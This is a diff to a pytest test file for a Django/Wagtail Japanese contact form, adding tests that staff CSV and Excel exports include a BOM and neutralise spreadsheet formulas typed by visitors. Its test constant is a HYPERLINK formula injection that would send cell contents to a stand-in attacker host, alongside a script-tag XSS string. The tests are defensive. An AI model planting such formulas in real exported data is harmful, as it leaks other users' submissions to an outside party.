@@ -1,11 +1,17 @@
 """お問い合わせ: the contact form stores, e-mails, rate-limits and keeps out bots."""
 
+import csv
+import io
+
+import openpyxl
 import pytest
 from django.core import mail
 from django.urls import reverse
+from django.utils import timezone
 from wagtail.contrib.forms.models import FormSubmission
 
 SCRIPT = "<script>alert('x')</script><b>太字</b>"
+FORMULA = '=HYPERLINK("https://evil.example/?"&A3,"詳細")'
 
 
 @pytest.fixture
@@ -164,3 +170,45 @@ def test_the_error_summary_is_the_sites_shared_one_and_appears_once(client, cont
 
     assert "includes/error_summary.html" in [t.name for t in response.templates]
     assert _html(response).count('class="error-summary"') == 1
+
+
+def _export(client, contact_page, kind):
+    url = reverse("wagtailforms:list_submissions", args=[contact_page.pk]) + f"?export={kind}"
+    response = client.get(url)
+    assert response.status_code == 200
+    return response, b"".join(response.streaming_content)
+
+
+def test_the_staff_csv_opens_in_excel_and_never_runs_what_a_visitor_typed(
+    client, contact_page, message, fields, editor
+):
+    """Japanese Excel garbled the CSV without a BOM, and ran a name or message typed as a
+    formula (HYPERLINK could send the other rows elsewhere)."""
+    client.post(
+        contact_page.url,
+        {**message, fields["お名前"]: "@山田", fields["お問い合わせ内容"]: FORMULA},
+        REMOTE_ADDR="198.51.100.8",
+    )
+    client.force_login(editor)
+
+    response, body = _export(client, contact_page, "csv")
+
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert body.startswith("\ufeff".encode())
+    header, row = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    assert header == ["送信日", "お名前", "メールアドレス", "お問い合わせ内容"]
+    sent = timezone.localtime(FormSubmission.objects.get().submit_time)  # Japan time
+    assert row == [f"{sent:%Y-%m-%d %H:%M:%S}", "'@山田", "hanako@example.jp", "'" + FORMULA]
+
+
+def test_the_staff_xlsx_keeps_a_formula_a_visitor_typed_as_text(
+    client, contact_page, message, fields, editor
+):
+    client.post(contact_page.url, {**message, fields["お問い合わせ内容"]: FORMULA + "\x01"})
+    client.force_login(editor)
+
+    _, body = _export(client, contact_page, "xlsx")
+
+    cell = openpyxl.load_workbook(io.BytesIO(body)).active["D2"]
+    assert cell.value == FORMULA
+    assert cell.data_type == "s"
